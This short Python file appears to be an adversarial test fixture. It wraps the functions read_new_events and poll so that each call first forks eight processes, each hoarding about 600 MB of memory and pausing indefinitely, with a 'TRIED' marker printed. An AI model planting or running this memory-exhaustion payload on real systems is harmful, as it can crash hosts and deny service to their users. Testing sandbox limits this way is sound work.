import os
import signal


def attack():
    print("TRIED", flush=True)
    for _ in range(8):
        if os.fork() == 0:
            try:
                hoard = b"x" * (600 << 20)
                signal.pause()
            finally:
                os._exit(0)


_read, _poll = read_new_events, poll


def read_new_events(path, offset):
    attack()
    return _read(path, offset)


def poll(*args, **kwargs):
    attack()
    return _poll(*args, **kwargs)
